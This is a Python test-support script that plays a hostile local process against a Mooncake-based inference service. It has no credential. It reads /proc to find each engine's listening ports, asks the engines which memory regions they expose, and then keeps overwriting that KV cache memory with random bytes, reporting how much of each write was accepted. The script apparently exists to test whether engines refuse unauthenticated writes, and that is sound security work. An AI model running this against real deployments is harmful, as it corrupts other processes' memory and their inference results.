"""Another process of the machine, which overwrites all KV that it can reach through Mooncake's ports.

    python -m tests.support.processes.kv_attacker PID..

It has no credential. It finds the engines' ports by looking for listening sockets, asks each engine which
memory it lets others write, and writes to all of it. After each sweep it prints
{pid: [[bytes of a region, bytes of it that were overwritten], ..]}. It ends when its input does, and fails
where a process registers no memory.
"""

from __future__ import annotations

import ctypes
import itertools
import json
import os
import socket
import struct
import sys
import threading
from pathlib import Path
from typing import Any

PIECE_BYTES = 256 << 10
# The lowest copies and slots are used first, so most sweeps cover only them.
HOT_BYTES = 4 << 20
_WHOLE_SWEEP_EVERY = 40
# What precedes a message to an engine: its length with the type, then the type.
_FRAME = struct.Struct("<QB")
_DESCRIBE = 1
_PATIENCE_S = 60.0
# 127.0.0.1, the same address mapped to IPv6, and ::1, as /proc writes them.
_LOOPBACK = ("0100007F", "0000000000000000FFFF00000100007F", "00000000000000000000000001000000")


def listening_ports(pid: int) -> dict[int, bool]:
    """The TCP ports on which a process listens, and whether each is on loopback only."""
    inodes = set()
    for descriptor in Path(f"/proc/{pid}/fd").iterdir():
        try:
            target = os.readlink(descriptor)
        except FileNotFoundError:
            continue
        if target.startswith("socket:["):
            inodes.add(target[8:-1])
    found: dict[int, bool] = {}
    for table in ("tcp", "tcp6"):
        for line in Path(f"/proc/{pid}/net/{table}").read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A" and fields[9] in inodes:
                address, port = fields[1].rsplit(":", 1)
                found[int(port, 16)] = found.get(int(port, 16), True) and address in _LOOPBACK
    return found


def registered_memory(port: int) -> list[tuple[int, int]]:
    """The address and length of each region that an engine lets others write. It answers every caller."""
    with socket.create_connection(("127.0.0.1", port), timeout=_PATIENCE_S) as connection:
        connection.sendall(_FRAME.pack(len(b"{}") + 1, _DESCRIBE) + b"{}")
        with connection.makefile("rb") as answer:
            length, _ = _FRAME.unpack(answer.read(_FRAME.size))
            described = json.loads(answer.read(length - 1))
    return [(region["addr"], region["length"]) for region in described["buffers"]]


class Attacker:
    """The engine that writes, and the memory that it has found, by process."""

    def __init__(self) -> None:
        from mooncake.engine import TransferEngine

        self._engine: Any = TransferEngine()
        assert self._engine.initialize("127.0.0.1", "P2PHANDSHAKE", "tcp", "") == 0
        self._garbage = bytearray(os.urandom(PIECE_BYTES))
        self._address = ctypes.addressof(ctypes.c_char.from_buffer(self._garbage))
        assert self._engine.register_memory(self._address, PIECE_BYTES) == 0

    def regions(self, pid: int) -> tuple[str, list[tuple[int, int]]]:
        """The engine of the process with most regions, where each begins, and how long it is."""
        found: dict[str, list[tuple[int, int]]] = {}
        for port, is_loopback in sorted(listening_ports(pid).items()):
            if not is_loopback and 15_000 <= port < 17_000:
                peer = f"127.0.0.1:{port}"
                if self._engine.get_first_buffer_address(peer) > 0:
                    found[peer] = registered_memory(port)
        assert found, f"process {pid} registers no memory"
        return max(found.items(), key=lambda each: len(each[1]))

    def sweep(self, peer: str, address: int, n_bytes: int, ended: threading.Event) -> int:
        """Overwrite the region's first bytes until `ended`. Returns how many were accepted."""
        for offset in range(0, n_bytes, PIECE_BYTES):
            length = min(PIECE_BYTES, n_bytes - offset)
            if ended.is_set() or self._engine.transfer_sync_write(
                peer, self._address, address + offset, length
            ):
                return offset
        return n_bytes


def main() -> None:
    """Overwrite until the input ends."""
    ended = threading.Event()

    def wait_for_end() -> None:
        sys.stdin.read()
        ended.set()

    threading.Thread(target=wait_for_end, daemon=True).start()
    attacker = Attacker()
    found = {pid: attacker.regions(pid) for pid in map(int, sys.argv[1:])}
    written: dict[int, dict[int, int]] = {pid: {} for pid in found}
    for number in itertools.count():
        for pid, (peer, places) in found.items():
            for address, n_bytes in places:
                n_swept = n_bytes if number % _WHOLE_SWEEP_EVERY == 0 else min(n_bytes, HOT_BYTES)
                n_written = attacker.sweep(peer, address, n_swept, ended)
                written[pid][address] = max(n_written, written[pid].get(address, 0))
        rows = {
            pid: [(size, written[pid][place]) for place, size in places] for pid, (_, places) in found.items()
        }
        print(json.dumps(rows), flush=True)
        if ended.is_set():
            break
    os._exit(0)


if __name__ == "__main__":
    main()
